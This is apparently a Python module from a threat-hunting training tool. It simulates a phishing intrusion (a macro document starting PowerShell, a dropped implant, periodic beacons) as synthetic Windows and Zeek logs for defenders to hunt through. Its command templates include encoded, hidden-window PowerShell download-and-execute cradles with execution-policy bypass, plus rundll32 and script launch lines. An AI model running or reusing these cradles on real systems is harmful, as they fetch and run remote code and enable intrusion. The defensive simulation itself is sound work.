"""The first day: a document from the mail starts PowerShell, which fetches a program that calls home."""

from __future__ import annotations

import base64
from typing import TYPE_CHECKING

from huntbook.scenarios import _windows, _windows_accounts
from huntbook.scenarios._clock import MINUTE, SECOND, Moment
from huntbook.scenarios._company import guid
from huntbook.scenarios._intrusion._story import Implant, Place
from huntbook.scenarios._zeek import Request, Volume

if TYPE_CHECKING:
    from random import Random

    from huntbook.scenarios._intrusion._story import Story
    from huntbook.scenarios._machine import Workday
    from huntbook.scenarios._windows import Process

POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
_TOPICS = ("Invoice", "Remittance", "Overdue-Statement", "Contract-Amendment", "Delivery-Note", "Salary-Review")
_FOLDERS = ("Microsoft\\Crypto", "Adobe\\Sync", "Local\\Updater", "Notifications", "Telemetry")
_NAMES = ("syncsvc", "updcheck", "wrdhelper", "netcfg32", "clipsrv", "audiohost", "prnflt")
_AGENT = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.2506"


def open_document(story: Story) -> None:
    """Open the document: the application starts PowerShell with an encoded command, directly or around a corner."""
    rng, machine, day = story.stream("document"), story.machine, story.days[0]
    moment = day.start + rng.randrange(65 * MINUTE, 150 * MINUTE)
    app, kind = rng.choice([("WINWORD.EXE", "docm"), ("EXCEL.EXE", "xlsm")])
    document = f"{rng.choice(_TOPICS)}-{rng.randrange(1000, 99999)}.{kind}"
    folder = rng.choice(
        [
            f"C:\\Users\\{story.patient.login}\\Downloads",
            f"C:\\Users\\{story.patient.login}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{rng.getrandbits(32):08X}",
        ]
    )
    mail = story.spawn(
        machine, moment - 50 * MINUTE, (f"{_OFFICE}OUTLOOK.EXE", f'"{_OFFICE}OUTLOOK.EXE"'), day.shell, seconds=3 * 3600
    )
    story.logs.windows(
        story.client, moment - 3000, _windows.file_created(mail, f"{folder}\\{document}", Moment.at(moment - 3000))
    )
    path = f"{folder}\\{document}"
    office = story.spawn(machine, moment, (_OFFICE + app, f'"{_OFFICE}{app}" /n "{path}" /o ""'), mail, seconds=900)
    files = story.files(story.client)
    story.plant("initial access", "T1566.001", moment, story.on_client, files=files,
                note=f"The document {document} was opened from the mail.", process=office, indicators=[document])  # fmt: skip
    _run_script(story, rng, moment + rng.randrange(5, 25) * SECOND, office)


def _run_script(story: Story, rng: Random, moment: int, office: Process) -> None:
    machine, command = story.machine, story.command
    resource = f"/{rng.choice(['a', 'news', 'dl', 'v2', 'assets'])}/{rng.getrandbits(24):06x}"
    script = _script(rng, command.url + resource)
    line = _command_line(rng, script)
    parent = office
    if rng.random() < 0.4:  # around a corner
        parent = story.spawn(machine, moment - 600, (CMD, f"cmd.exe /c {line}"), office, seconds=30)
    shell = story.spawn(machine, moment, (POWERSHELL, line), parent, seconds=240)
    block = _windows_accounts.script_block(script, guid(rng), warning=True)
    pipeline = _windows_accounts.pipeline(
        shell, story.client, "New-Object", 'ParameterBinding(New-Object): name="TypeName"; value="Net.WebClient"'
    )
    story.logs.windows(story.client, moment + 900, [block, pipeline])
    files = story.files(story.client)
    story.plant("execution", "T1059.001", moment, story.on_client, files=files,
                note="Office started PowerShell with an encoded command that downloads and runs a script.", process=shell,
                remote=command.remote, indicators=[command.address, command.domain, command.url + resource])  # fmt: skip
    _download(story, rng, moment + 1500, shell, resource)
    _drop(story, rng, moment + 8 * SECOND, shell)


def _script(rng: Random, url: str) -> str:
    return rng.choice(
        [
            f"IEX (New-Object Net.WebClient).DownloadString('{url}')",
            f"$w=New-Object System.Net.WebClient;$w.Proxy=[Net.WebRequest]::DefaultWebProxy;iex $w.DownloadString('{url}')",
            f"IEX(IWR -UseBasicParsing -Uri '{url}').Content",
            f'$c = New-Object Net.WebClient; $d = $c.DownloadString("{url}"); Invoke-Expression $d',
        ]
    )


def _command_line(rng: Random, script: str) -> str:
    text = base64.b64encode(script.encode("utf-16-le")).decode()
    return rng.choice(
        [
            f"powershell.exe -nop -w hidden -enc {text}",
            f"powershell -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {text}",
            f"POWERSHELL.EXE -ec {text} -WindowStyle hidden",
            f"powershell.exe -ExecutionPolicy Bypass -e {text}",
            f"powershell -noni -nop -sta -w 1 -eNcO {text}",
        ]
    )


def _download(story: Story, rng: Random, moment: int, shell: Process, resource: str) -> None:
    world, place, client = story.world, story.command, story.client
    if place.domain != place.address:
        world.resolve(rng, moment - 80, client, place.domain, place.address)
        story.logs.windows(
            client, moment - 80, _windows.name_asked(shell, place.domain, place.address, Moment.at(moment - 80))
        )
    request = (
        Request("GET", place.domain, resource, _AGENT, answer=48_213, mime="text/plain") if place.port != 443 else None
    )
    volume = Volume(0.9, 410, 48_600)
    name = place.domain if place.port == 443 else ""
    world.reach(
        rng, moment, client, (place.address, place.port), volume, process=shell, request=request, server_name=name
    )
    files = story.files(client, "zeek/conn.log.gz")
    story.plant("command and control", "T1105", moment, Place(client, story.patient.login, "Zeek conn"), files=files,
                note="PowerShell fetched the next stage.", process=shell, remote=place.remote, indicators=[place.address])  # fmt: skip


def _drop(story: Story, rng: Random, moment: int, shell: Process) -> None:
    """Write the program that stays, and start it for the first time."""
    folder = f"C:\\Users\\{story.patient.login}\\AppData\\Roaming\\{rng.choice(_FOLDERS)}"
    name = rng.choice(_NAMES)
    kind = rng.choice(["exe", "dll", "ps1"])
    path = f"{folder}\\{name}.{kind}"
    story.logs.windows(story.client, moment, _windows.file_created(shell, path, Moment.at(moment)))
    story.payload = path
    story.launch = {
        "exe": (path, f'"{path}"'),
        "dll": (
            "C:\\Windows\\System32\\rundll32.exe",
            f"rundll32.exe {path},{rng.choice(['Start', 'Run', 'DllMain'])}",
        ),
        "ps1": (POWERSHELL, f"powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File {path}"),
    }[kind]
    start_implant(story, moment + 2 * SECOND, shell, story.days[0])


def start_implant(story: Story, moment: int, parent: Process, day: Workday) -> Process:
    """Start the attacker's program on the client, where it runs until the evening."""
    life = (day.end - moment) / 1000
    process = story.spawn(story.machine, moment, story.launch, parent, seconds=life, integrity="High")
    story.implants.append(Implant(process, day))
    files = story.files(story.client)
    story.plant("execution", "T1204.002", moment, story.on_client, files=files,
                note="The attacker's program runs from a folder of the user's profile.", process=process,
                indicators=[story.payload])  # fmt: skip
    return process


def call_home(story: Story) -> None:
    """Let the program call home at intervals that vary a little, each day until the evening."""
    rng, place = story.stream("beacon"), story.command
    period, jitter = rng.randrange(60, 300) * SECOND, rng.uniform(0.05, 0.25)
    resource = rng.choice(["/api/v1/status", "/jquery-3.7.1.min.js", "/pixel.gif", "/submit.php", "/updates/check"])
    agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36"
    request = None if place.port == 443 else Request("POST", place.domain, resource, agent, body=312, answer=96)
    for implant in story.implants:
        moment = int(implant.process.guid[15:19] + implant.process.guid[10:14], 16) * 1000 + 3000
        first = moment
        while moment < implant.day.end - MINUTE:
            volume = Volume(0.3 + rng.random() * 0.2, rng.randrange(480, 640), rng.randrange(180, 320))
            name = place.domain if place.port == 443 else ""
            story.world.reach(rng, moment, story.client, (place.address, place.port), volume,
                              process=implant.process, request=request, server_name=name)  # fmt: skip
            moment += int(period * (1 + rng.uniform(-jitter, jitter)))
        files = story.files(story.client, "zeek/conn.log.gz", "zeek/ssl.log" if place.port == 443 else "zeek/http.log")
        story.plant("command and control", "T1071.001", first, Place(story.client, story.patient.login, "Zeek conn"),
                    files=files, note=f"The program calls home about every {period // 1000} seconds.",
                    process=implant.process, remote=place.remote, indicators=[place.address, place.domain])  # fmt: skip
